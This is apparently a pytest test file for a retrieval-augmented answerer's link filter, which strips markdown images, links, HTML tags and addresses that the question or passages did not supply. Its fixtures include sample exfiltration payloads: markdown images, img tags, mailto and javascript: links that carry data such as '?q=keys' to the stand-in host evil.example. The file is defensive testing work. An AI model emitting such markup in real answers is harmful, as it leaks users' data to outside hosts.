"""Images, markup and addresses in what a model says."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentformer.rag.answer import Answerer
from agentformer.rag.links import Plain, without_strange_links
from agentformer.types import Answer, AnswerPiece
from tests.rag.models import HITS, Scripted, hit

GIVEN = ["Fees: https://harbour.example/fees?year=2026. Write to office@harbour.example, or see www.port.example."]


@pytest.mark.parametrize(
    ("said", "text"),
    [
        ("![plan](https://harbour.example/fees?year=2026)", "[plan](https://harbour.example/fees?year=2026)"),
        ("![plan](http://evil.example/?q=keys)", "plan"),
        ("![plan][p]\n\n[p]: http://evil.example/?q=keys", "[plan][p]\n\n[p]: …"),
        ("![1](http://evil.example/?q=keys)", "1"),
        ("Blue![1] Red!", "Blue![1] Red!"),
        ("<img src='http://evil.example/?q=keys'>", "‹img src='…'>"),
        ("<a href=x>", "‹a href=x>"),
        ("Compare a<b and List<String>.", "Compare a<b and List<String>."),
        ("[fees](https://harbour.example/fees?year=2026).", "[fees](https://harbour.example/fees?year=2026)."),
        ("[fees](https://harbour.example/fees?year=2026&q=keys).", "fees."),
        ("(see http://evil.example/keys).", "(see …)."),
        ("http:/evil.example/keys", "…"),
        ("[x](//evil.example/keys)", "x"),
        (r"[x](\\evil.example\keys)", "x"),
        ("[x](http&#58;//evil.example/keys)", "[x](http& #58;…)"),
        ("[x](mailto:a@evil.example?body=keys)", "x"),
        ("[x](javascript:fetch('x'))", "[x](…'x'))"),
        ("www.port.example and www.evil.example", "www.port.example and …"),
        ("A // comment, and/or //more, 12:30, f(x)[0](y).", "A // comment, and/or //more, 12:30, f(x)[0](y)."),
    ],
)
def test_an_address_stays_only_if_what_was_given_holds_it(said: str, text: str) -> None:
    assert without_strange_links(said, GIVEN).text == text


def test_a_warning_tells_whose_the_addresses_are_and_not_what_they_carry() -> None:
    model = Scripted("In the cupboard [1]. ![x](http://evil.example/?q=blue-cupboard)")
    answer = Answerer(model, None).answer("Who keeps the keys?", HITS)
    assert answer.text == "In the cupboard [1]. x"
    (warning,) = answer.warnings
    assert "evil.example" in warning and "blue" not in warning


def test_an_address_of_the_question_or_a_passage_may_be_said() -> None:
    hits = [hit("The form is at https://harbour.example/form.", 1)]
    said = "At https://harbour.example/form [1], not at https://old.example/form."
    answer = Answerer(Scripted(said), None).answer("Is the form at https://old.example/form?", hits)
    assert (answer.text, answer.warnings) == (said, ())


@given(st.text(alphabet="!<[]()1a b/", max_size=30), st.integers(1, 5))
def test_a_streamed_text_shows_no_image_whatever_its_pieces(text: str, size: int) -> None:
    plain = Plain()
    pieces = [plain.feed(text[at : at + size]) for at in range(0, len(text), size)]
    shown = "".join(pieces) + plain.rest()
    whole = Plain()
    assert shown == whole.feed(text) + whole.rest()
    assert "<a" not in shown and "![a" not in shown and "![1](" not in shown


def test_a_stream_shows_no_image_and_ends_with_the_same_text() -> None:
    model = Scripted(["Blue", "!", "[x](http://evil", ".example/?q=1) <i", "mg src=a> [1]", "!"])
    events = list(Answerer(model, None).stream("Who keeps the keys?", HITS))
    shown = "".join(event.text for event in events if isinstance(event, AnswerPiece))
    assert shown == "Blue[x](http://evil.example/?q=1) ‹img src=a> [1]!"
    assert isinstance(events[-1], Answer)
    assert events[-1].text == "Bluex ‹img src=a> [1]!"


@pytest.mark.parametrize("unit", ["[", "![", "<a ", "[a](", "http:", "&#", "//a.", "[a]( ", "<a src", "www.", "!"])
def test_long_repetitions_are_no_work(unit: str) -> None:
    without_strange_links(unit * 20_000, GIVEN)
    Plain().feed(unit * 20_000)
